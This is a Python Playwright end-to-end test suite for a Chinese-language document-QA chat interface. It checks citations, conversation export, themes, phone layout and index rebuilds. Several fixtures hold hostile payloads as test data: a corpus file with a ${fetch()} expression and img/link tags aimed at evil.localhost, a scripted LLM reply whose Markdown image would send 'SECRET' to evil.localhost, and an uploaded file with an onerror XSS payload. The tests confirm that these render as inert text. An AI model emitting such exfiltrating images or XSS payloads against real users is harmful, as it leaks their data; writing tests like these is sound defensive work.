"""End to end: the chat UI served on a free loopback port, driven by a real headless Chromium in a
zh-CN locale (the users' own), with one server shared by every test of the module.

The server's corpus holds a hostile document (Markdown, HTML and a template expression that would
fetch remote URLs if any of it took effect), and its LLM is a scripted peer on loopback; every page
refuses and records requests to any other host, and a test fails if there was one.
Screenshots of every step go to test-artifacts/ (ignored by git; CI keeps them as artifacts).
"""

from __future__ import annotations

import re
import shutil
import socket
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect, sync_playwright

from aiqa.settings import Settings
from aiqa.ui import build_app, launch
from openai_peer import ChatServer, Reply

pytestmark = pytest.mark.browser

REPO = Path(__file__).resolve().parent.parent
ARTIFACTS = REPO / "test-artifacts"
CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
ANSWER_TIMEOUT_MS = 60_000
PAGE_TIMEOUT_MS = 20_000  # the first load on a busy machine: the page, then the status it asks for
WCAG_AA = 4.5  # minimum contrast ratio for body text (WCAG 2.x, level AA)
HOSTILE = (
    "# 平阳县数据局\n平阳县数据局于2024年6月1日挂牌成立。\r\r**粗体** [点我](http://evil.localhost/click) "
    "<img src=//evil.localhost/x.png> ${fetch('//evil.localhost/t')}\n"
)
INJECTED_DRAFT = "温州市人工智能局于2025年9月成立[1]。\r\r![x](//evil.localhost/leak.png?q=SECRET)\r\r"


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


class Server:
    def __init__(self, url: str, corpus: Path, peer: ChatServer) -> None:
        self.url = url
        self.corpus = corpus
        self.peer = peer


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    root = tmp_path_factory.mktemp("ui")
    corpus = root / "corpus"
    shutil.copytree(REPO / "corpus", corpus)
    (corpus / "hostile.md").write_bytes(HOSTILE.encode("utf-8"))
    peer = ChatServer().start()
    peer.script.append(Reply(INJECTED_DRAFT, pieces=1, stall=1.5))
    settings = Settings(
        corpus=corpus,
        index=root / "index",
        embedder="offline",
        answerer="extractive",
        llm_base_url=peer.base_url,
        llm_model="peer",
        llm_api_key="unused",
        host="127.0.0.1",
        port=_free_port(),
        ui_secret="a test key, stable for the module",
    )
    app = build_app(settings)
    launch(app, settings, prevent_thread_lock=True)
    try:
        yield Server(f"http://127.0.0.1:{settings.port}/", corpus, peer)
    finally:
        app.close()
        peer.stop()


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    if not CHROMIUM.exists():
        pytest.fail(f"{CHROMIUM} is missing; `bash scripts/bootstrap --dev` installs Debian's chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
        yield browser
        browser.close()


def _open(browser: Browser, server: Server, *, width: int = 1360, height: int = 900, query: str = ""):
    context = browser.new_context(viewport={"width": width, "height": height}, locale="zh-CN")
    context.grant_permissions(["clipboard-read", "clipboard-write"], origin=server.url.rstrip("/"))
    page = context.new_page()
    off_site: list[str] = []

    def only_loopback(route) -> None:
        # The UI must work with no network: any request elsewhere is refused and recorded.
        if route.request.url.startswith(server.url):
            route.continue_()
        else:
            off_site.append(route.request.url)
            route.abort()

    page.route("**/*", only_loopback)
    page.goto(server.url + query)
    expect(page.locator("#aiqa-status")).to_contain_text("份文档", timeout=PAGE_TIMEOUT_MS)
    return context, page, off_site


@pytest.fixture
def page(browser: Browser, server: Server) -> Iterator[Page]:
    context, page, off_site = _open(browser, server)
    yield page
    context.close()
    assert not off_site, f"the page tried to reach the network: {off_site}"


def _shot(page: Page, name: str) -> None:
    ARTIFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def _ask(page: Page, question: str) -> None:
    turns = page.locator("#aiqa-chat .aiqa-turn:not(.aiqa-pending)").count()
    page.locator("#aiqa-question textarea").fill(question)
    page.locator("#aiqa-ask").click()
    expect(page.locator("#aiqa-chat .aiqa-turn:not(.aiqa-pending)")).to_have_count(
        turns + 1, timeout=ANSWER_TIMEOUT_MS
    )


def _turn(page: Page, index: int):
    return page.locator(f"#aiqa-chat #aiqa-t{index}")


def test_an_answer_links_to_its_highlighted_passage(page: Page, server: Server) -> None:
    _shot(page, "01-start")
    _ask(page, "温州市人工智能局是什么时候成立的？")
    turn = _turn(page, 0)
    source = turn.locator("#aiqa-t0-s1")
    expect(source).to_be_visible()
    expect(turn.locator(".aiqa-answer")).to_contain_text("[1]")
    expect(turn.locator(".aiqa-answer")).to_contain_text("9月")
    expect(source.locator("mark")).to_contain_text("9月")
    expect(source.locator("mark")).to_contain_text("人工智能局成立")
    # The card shows exactly file_text[start:end] of the file and offsets it names.
    meta = source.locator(".aiqa-meta")
    document = (server.corpus / meta.get_attribute("data-doc")).read_text(encoding="utf-8")
    start, end = int(meta.get_attribute("data-start")), int(meta.get_attribute("data-end"))
    assert source.locator(".aiqa-text").text_content() == document[start:end]
    _shot(page, "02-answer")

    turn.locator("a.aiqa-cite").first.click()
    expect(page).to_have_url(re.compile(r"#aiqa-t0-s1$"))
    expect(source).to_be_in_viewport()

    turn.locator(".aiqa-uncited summary").click()
    expect(turn.locator(".aiqa-uncited .aiqa-card").first).to_be_visible()
    _shot(page, "03-retrieved-not-cited")


def test_an_older_answer_keeps_its_own_passages(page: Page) -> None:
    _ask(page, "温州市人工智能局是什么时候成立的？")
    _ask(page, "廣州市海珠區人工智能發展局局長是誰？")
    _ask(page, "今天北京的天气怎么样？")
    refusal = _turn(page, 2).locator(".aiqa-refusal")
    expect(refusal).to_contain_text("语料中没有找到这个问题的答案")
    # After a refusal nothing dangles: no link, no numbered passage, and a sentence saying why.
    expect(_turn(page, 2).locator("a.aiqa-cite, .aiqa-n")).to_have_count(0)
    expect(_turn(page, 2).locator(".aiqa-sources")).to_contain_text("没有引用")

    first = _turn(page, 0)
    first.locator("a.aiqa-cite").first.click()
    expect(page).to_have_url(re.compile(r"#aiqa-t0-s1$"))
    own = first.locator("#aiqa-t0-s1")
    expect(own).to_be_in_viewport()
    expect(own.locator("mark")).to_contain_text("人工智能局成立")
    expect(_turn(page, 1).locator("#aiqa-t1-s1 mark")).to_contain_text("余丽慧")
    _shot(page, "04-older-answer-own-source")


def test_follow_ups_are_understood_from_the_conversation(page: Page, server: Server) -> None:
    # The LLM fails its condense calls here, so the follow-ups are rewritten offline, in code.
    scripted = list(server.peer.script)
    server.peer.script[:] = [Reply(status=500)]
    try:
        _ask(page, "广州市海珠区人工智能发展局的工作重点是什么？")
        _ask(page, "它的局长是谁？")
        _ask(page, "那它是什么时候成立的？")
    finally:
        server.peer.script[:] = scripted
    expect(_turn(page, 0).locator(".aiqa-rewritten")).to_have_count(0)
    for index, answer in ((1, "余丽慧"), (2, "2025年12月")):
        turn = _turn(page, index)
        expect(turn.locator(".aiqa-answer")).to_contain_text(answer)
        expect(turn.locator(".aiqa-rewritten")).to_contain_text("理解为：")
        expect(turn.locator(".aiqa-rewritten")).to_contain_text("海珠区")
        expect(turn.locator(f"#aiqa-t{index}-s1")).to_contain_text(answer[:3])
    _turn(page, 2).scroll_into_view_if_needed()
    _shot(page, "04b-follow-ups")


def test_copy_gives_plain_text_with_markers_and_sources(page: Page) -> None:
    _ask(page, "温州市人工智能局是什么时候成立的？")
    page.locator("#aiqa-t0 .aiqa-copy").click()
    expect(page.locator("#aiqa-t0 .aiqa-copy")).to_have_text("已复制")
    copied = page.evaluate("navigator.clipboard.readText()")
    assert "[1]" in copied and "9月" in copied and "来源:" in copied
    assert "<" not in copied and "&lt;" not in copied and "aiqa-cite" not in copied
    # The same text is what a screen reader gets: the rendered answer, not markup.
    assert "<" not in page.locator("#aiqa-t0 .aiqa-answer").inner_text()


def test_the_conversation_survives_a_reload_and_exports(page: Page, tmp_path: Path) -> None:
    _ask(page, "温州市人工智能局是什么时候成立的？")
    _ask(page, "廣州市海珠區人工智能發展局局長是誰？")
    page.reload()
    expect(_turn(page, 1).locator("#aiqa-t1-s1 mark")).to_contain_text("余丽慧", timeout=ANSWER_TIMEOUT_MS)
    expect(_turn(page, 0).locator(".aiqa-answer")).to_contain_text("9月")
    _shot(page, "05-after-reload")

    page.locator("#aiqa-manage").click()
    page.locator("#aiqa-rename-text textarea, #aiqa-rename-text input").fill("人工智能局两问")
    page.locator("#aiqa-rename").click()
    conversations = page.locator("#aiqa-conversations")
    expect(conversations).to_contain_text("人工智能局两问")

    with page.expect_download() as download:
        page.locator("#aiqa-export").click()
    exported = tmp_path / "export.md"
    download.value.save_as(exported)
    markdown = exported.read_text(encoding="utf-8")
    assert markdown.startswith("# 人工智能局两问")
    assert "## 廣州市海珠區人工智能發展局局長是誰？" in markdown
    assert "余丽慧" in markdown and "\\[1\\]" in markdown
    assert "> " in markdown  # the cited passages, quoted

    page.locator("#aiqa-new").click()
    expect(page.locator("#aiqa-chat .aiqa-turn")).to_have_count(0)
    _ask(page, "温州湾新区新兴产业局的局长是谁？")
    # Whatever the answer is, the same one must come back when this conversation is shown again.
    other_answer = _turn(page, 0).locator(".aiqa-answer").inner_text().strip()[:20]
    expect(conversations.locator("label")).to_have_count(2)
    page.reload()
    expect(conversations.locator("label")).to_have_count(2, timeout=ANSWER_TIMEOUT_MS)
    conversations.get_by_text("人工智能局两问").click()
    expect(_turn(page, 1).locator(".aiqa-answer")).to_contain_text("余丽慧")
    page.locator("#aiqa-manage").click()
    page.locator("#aiqa-delete").click()
    expect(conversations.locator("label")).to_have_count(1)
    expect(conversations).not_to_contain_text("人工智能局两问")
    expect(_turn(page, 0).locator(".aiqa-answer")).to_contain_text(other_answer)
    _shot(page, "06-conversations")


# Text the page shows that is not content: questions, answers and passages are the users' and the
# corpus's words in whatever language they are written.
LABEL_TEXT = r"""
() => {
  const content = '.aiqa-q-text, .aiqa-answer, .aiqa-text, .aiqa-title, .aiqa-meta, .aiqa-plain, #aiqa-files tbody, #aiqa-files .virtual-body';
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const shown = [];
  for (let node = walker.nextNode(); node; node = walker.nextNode()) {
    const parent = node.parentElement;
    if (!parent || parent.closest(content) || !parent.checkVisibility({ visibilityProperty: true })) continue;
    if (node.textContent.trim()) shown.push(node.textContent.trim());
  }
  for (const element of document.querySelectorAll('[placeholder], [aria-label], [title]')) {
    if (!element.checkVisibility() || element.closest(content)) continue;
    for (const name of ['placeholder', 'aria-label', 'title']) {
      const value = element.getAttribute(name) || '';
      // Two labels Gradio 6 writes in English whatever the locale; an app cannot translate them.
      if (!['Click to upload or drop files', 'Table actions'].includes(value)) shown.push(value);
    }
  }
  return shown.join('\n');
}
"""


def _english_labels(page: Page) -> list[str]:
    shown = page.evaluate(LABEL_TEXT)
    # The product's, models' and formats' names, UTC and environment variables are names, not labels.
    shown = re.sub(r"\bAIQA_[A-Z_]+|\S+\.(txt|md)\b|multilingual-e5-small|sentence-transformers", " ", shown)
    allowed = {"aiqa", "Markdown", "txt", "md", "UTF", "GB", "MB", "UTC", "OpenAI", "README"}
    return [word for word in re.findall(r"[A-Za-z]{2,}", shown) if word not in allowed]


def test_the_zh_cn_page_has_no_english_label(page: Page) -> None:
    assert page.evaluate("document.documentElement.lang") == "zh-CN"
    _ask(page, "温州市人工智能局是什么时候成立的？")
    page.locator("#aiqa-t0 .aiqa-uncited summary").click()
    page.locator(".aiqa-status-details summary").click()
    assert not (english := _english_labels(page)), " ".join(english)
    page.get_by_role("tab", name="索引").click()
    expect(page.locator("#aiqa-files")).to_contain_text("已索引")
    assert not (english := _english_labels(page)), " ".join(english)
    _shot(page, "07-index-tab-chinese")


CONTRAST = """
(element) => {
  const canvas = document.createElement('canvas');
  canvas.width = canvas.height = 1;
  const context = canvas.getContext('2d', { willReadFrequently: true });
  const rgba = (css) => {
    context.clearRect(0, 0, 1, 1);
    context.fillStyle = css;
    context.fillRect(0, 0, 1, 1);
    const [r, g, b, a] = context.getImageData(0, 0, 1, 1).data;
    return [r, g, b, a / 255];
  };
  const over = (top, bottom) => [0, 1, 2].map((i) => top[i] * top[3] + bottom[i] * (1 - top[3])).concat([1]);
  // The background the text sits on: every translucent layer up to the first opaque one.
  const layers = [];
  for (let node = element; node; node = node.parentElement) {
    const colour = rgba(getComputedStyle(node).backgroundColor);
    if (colour[3] > 0) layers.push(colour);
    if (colour[3] >= 1) break;
  }
  let background = [255, 255, 255, 1];
  for (const layer of layers.reverse()) background = over(layer, background);
  const foreground = over(rgba(getComputedStyle(element).color), background);
  const luminance = (c) => {
    const [r, g, b] = c.slice(0, 3).map((v) => {
      v /= 255;
      return v <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4;
    });
    return 0.2126 * r + 0.7152 * g + 0.0722 * b;
  };
  const [light, dark] = [luminance(foreground), luminance(background)].sort((a, b) => b - a);
  return (light + 0.05) / (dark + 0.05);
}
"""


@pytest.mark.parametrize("theme", ["dark", "light"])
def test_highlights_read_well_in_both_themes(browser: Browser, server: Server, theme: str) -> None:
    context, page, off_site = _open(browser, server, query=f"?__theme={theme}")
    try:
        _ask(page, "温州市人工智能局是什么时候成立的？")
        for selector in (
            "#aiqa-t0-s1 mark",
            "#aiqa-t0 a.aiqa-cite sup",
            "#aiqa-t0-s1 .aiqa-text",
            "#aiqa-t0 .aiqa-n",
        ):
            ratio = page.locator(selector).first.evaluate(CONTRAST)
            assert ratio >= WCAG_AA, f"{selector} in the {theme} theme: contrast {ratio:.2f}"
        _shot(page, f"08-{theme}-theme")
    finally:
        context.close()
    assert not off_site


OVERFLOW = """
() => {
  const width = document.documentElement.clientWidth;
  const out = [];
  for (const element of document.querySelectorAll('body *')) {
    const box = element.getBoundingClientRect();
    if (box.width === 0 || box.height === 0) continue;
    if (box.right > width + 1 || box.left < -1) out.push(`${element.tagName}.${element.className} ${box.left}..${box.right}`);
  }
  return { width, scrollWidth: document.documentElement.scrollWidth, out: out.slice(0, 10) };
}
"""


def test_a_phone_shows_everything_within_the_screen(browser: Browser, server: Server) -> None:
    context, page, off_site = _open(browser, server, width=390, height=844)
    try:
        _ask(page, "温州市人工智能局是什么时候成立的？")
        layout = page.evaluate(OVERFLOW)
        assert layout["scrollWidth"] <= layout["width"] and not layout["out"], layout
        # The answer's passages come right after it, before anything else on the page.
        # Measured together: the conversation may still be scrolling to its end.
        gap = page.evaluate(
            """() => {
              const answer = document.querySelector('#aiqa-t0 .aiqa-answer').getBoundingClientRect();
              return document.querySelector('#aiqa-t0 .aiqa-sources').getBoundingClientRect().top - answer.bottom;
            }"""
        )
        assert 0 <= gap < 80, gap
        _shot(page, "09-phone")
    finally:
        context.close()
    assert not off_site


def _choose_llm(page: Page) -> None:
    page.get_by_role("button", name="设置").click()
    page.locator("input[aria-label='回答方式']").click()
    page.get_by_role("option", name="大语言模型（回答经原文核对）").click()


def test_an_injected_llm_draft_is_shown_as_text_and_loads_nothing(page: Page) -> None:
    _choose_llm(page)
    page.locator("#aiqa-question textarea").fill("温州市人工智能局是什么时候成立的？")
    page.locator("#aiqa-ask").click()
    # The draft streams in as text (the peer holds the reply open for a moment after it).
    expect(page.locator("#aiqa-chat .aiqa-draft")).to_contain_text(
        "![x](//evil.localhost/leak.png?q=SECRET)", timeout=ANSWER_TIMEOUT_MS
    )
    _shot(page, "10-injected-draft")
    # The checked answer replaces the draft, without the injected sentence; the notices that say
    # what the check removed are text too.
    answered = _turn(page, 0)
    expect(answered.locator(".aiqa-answer")).to_be_visible(timeout=ANSWER_TIMEOUT_MS)
    expect(answered.locator(".aiqa-answer")).not_to_contain_text("evil.localhost")
    answered.locator(".aiqa-notices summary").click()
    expect(answered.locator(".aiqa-notices li").first).to_be_visible()
    expect(page.locator("#aiqa-chat img, #aiqa-chat a[href*='evil']")).to_have_count(0)
    _shot(page, "11-injected-answer")


def test_hostile_corpus_text_is_shown_as_text_and_loads_nothing(page: Page) -> None:
    _ask(page, "平阳县数据局是什么时候挂牌成立的？")
    turn = _turn(page, 0)
    expect(turn.locator(".aiqa-answer")).to_contain_text("2024年6月1日")
    passage = turn.locator("#aiqa-t0-s1 .aiqa-text")
    expect(passage).to_contain_text("**粗体** [点我](http://evil.localhost/click)")
    expect(passage).to_contain_text("<img src=//evil.localhost/x.png> ${fetch('//evil.localhost/t')}")
    expect(page.locator("#aiqa-chat img, #aiqa-chat a[href*='evil'], #aiqa-chat strong")).to_have_count(0)
    _shot(page, "12-hostile-corpus")


def test_a_rebuild_picks_up_a_changed_corpus(page: Page, server: Server) -> None:
    (server.corpus / "extra.md").write_text("# 附加说明\n这是一份测试时加入的说明文件。", encoding="utf-8")
    page.reload()
    status = page.locator("#aiqa-status")
    expect(status).to_contain_text("文档在索引构建后有变化（新增 1 个）")
    page.get_by_role("tab", name="索引").click()
    expect(page.locator("#aiqa-files")).to_contain_text("extra.md")
    _shot(page, "13-index-tab-changed")
    page.locator("#aiqa-rebuild").click()
    report = page.locator("#aiqa-report")
    expect(report).to_contain_text("索引已重建", timeout=ANSWER_TIMEOUT_MS)
    expect(report).to_contain_text("新增 1 个")
    expect(report).to_contain_text("新增：extra.md")
    expect(status).to_contain_text("索引是最新的")
    expect(status).to_contain_text("7 份文档")
    _shot(page, "14-rebuilt")


def test_an_uploaded_file_can_be_asked_about(page: Page, server: Server, tmp_path: Path) -> None:
    good = tmp_path / "qingtian.txt"
    # Corpus text is shown as text: markup in a file must never become markup on the page.
    good.write_text(
        "青田县人工智能实验室于2024年3月15日正式挂牌成立。<img src=x onerror=alert(1)>", encoding="utf-8"
    )
    binary = tmp_path / "photo.txt"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)))

    page.get_by_role("tab", name="索引").click()
    page.locator("#aiqa-upload input[type=file]").set_input_files([str(good), str(binary)])
    expect(page.locator("#aiqa-upload").get_by_role("row", name=re.compile("photo.txt"))).to_be_visible()
    page.locator("#aiqa-add").click()
    report = page.locator("#aiqa-report")
    expect(report).to_contain_text("索引已重建", timeout=ANSWER_TIMEOUT_MS)
    expect(report.locator(".good")).to_contain_text("qingtian.txt：已添加")
    expect(report.locator(".bad")).to_contain_text("photo.txt 未添加")
    report.locator(".bad summary").click()
    expect(report.locator(".bad")).to_contain_text("it is not readable text")
    _shot(page, "15-uploaded")
    assert (server.corpus / "qingtian.txt").exists() and not (server.corpus / "photo.txt").exists()

    page.get_by_role("tab", name="对话").click()
    _ask(page, "青田县人工智能实验室是什么时候挂牌成立的？")
    source = _turn(page, 0).locator("#aiqa-t0-s1")
    expect(source).to_contain_text("qingtian.txt")
    expect(_turn(page, 0).locator(".aiqa-answer")).to_contain_text("2024年3月15日")
    expect(source).to_contain_text("<img src=x onerror=alert(1)>")
    expect(page.locator("#aiqa-chat img")).to_have_count(0)
    _shot(page, "16-answer-from-upload")


def test_eight_askers_through_the_queue_are_all_answered_during_a_rebuild(server: Server) -> None:
    from gradio_client import Client

    (server.corpus / "later.md").write_text("# 后来加入\n一份在提问期间加入的文件。", encoding="utf-8")

    def ask(_: int) -> str:
        client = Client(server.url, verbose=False)
        outputs = client.predict("温州市人工智能局是什么时候成立的？", None, 5, "extractive", api_name="/ask")
        return str(outputs[0])

    with ThreadPoolExecutor(9) as pool:
        rebuild = pool.submit(lambda: Client(server.url, verbose=False).predict(api_name="/rebuild"))
        answers = list(pool.map(ask, range(8)))
        report = rebuild.result(ANSWER_TIMEOUT_MS / 1000)[0]
    assert all("9月" in answer and 'href="#aiqa-t0-s1"' in answer for answer in answers)
    assert "Index rebuilt" in report and "later.md" in report


def test_a_failed_rebuild_says_why_and_answers_go_on(page: Page, server: Server, tmp_path: Path) -> None:
    kept = tmp_path / "kept"
    shutil.move(server.corpus, kept)
    server.corpus.mkdir()
    try:
        page.get_by_role("tab", name="索引").click()
        page.locator("#aiqa-rebuild").click()
        report = page.locator("#aiqa-report")
        expect(report.locator(".bad")).to_contain_text(
            "重建失败，仍在使用之前的索引。", timeout=ANSWER_TIMEOUT_MS
        )
        report.locator("summary").click()
        expect(report).to_contain_text("The corpus directory")
        _shot(page, "17-rebuild-failed")
        page.get_by_role("tab", name="对话").click()
        _ask(page, "温州市人工智能局是什么时候成立的？")
        expect(page.locator("#aiqa-t0-s1 mark")).to_contain_text("人工智能局成立")
    finally:
        server.corpus.rmdir()
        shutil.move(kept, server.corpus)
